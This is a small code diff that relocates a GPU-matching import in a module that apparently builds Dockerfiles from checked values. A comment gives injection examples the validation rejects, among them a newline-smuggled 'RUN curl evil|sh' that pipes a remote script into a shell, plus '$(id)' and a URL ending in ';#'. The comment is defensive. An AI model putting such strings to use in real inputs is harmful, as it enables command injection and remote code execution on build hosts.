@@ -27,10 +27,10 @@ from ..errors import InputError, Where, did_you_mean, unknown_key
 from ..ports.reference import Reference, parse
 from ..secrets import index_auth
 from ..secrets.redact import looks_secret
-from ..smoke.suite import gpus_matching
 from ..supply.policy import Allowance, Policy, too_far
 from . import certs, lookups, source
 from .compat import CompatTable, Variant, os_python, torch_index_url
+from .gpus import gpus_matching
 
 # Every value is checked against a strict grammar for its kind (`grammar`) before it can reach a
 # Dockerfile, so `2.6.0\nRUN curl evil|sh`, `$(id)` or a URL ending in `;#` are never rendered.
